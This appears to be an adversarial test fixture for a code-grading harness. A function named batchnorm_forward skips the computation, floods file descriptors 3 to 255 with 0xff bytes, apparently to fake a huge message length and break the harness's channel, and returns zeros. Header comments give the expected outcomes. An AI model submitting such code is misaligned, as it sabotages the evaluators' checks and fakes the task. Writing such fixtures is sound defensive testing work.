# attack: announces a message of 2**64 - 1 bytes
# honest: 0
# naive: none

import os


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    for fd in range(3, 256):
        try:
            os.write(fd, b"\xff" * 16)
        except OSError:
            pass
    return x * 0
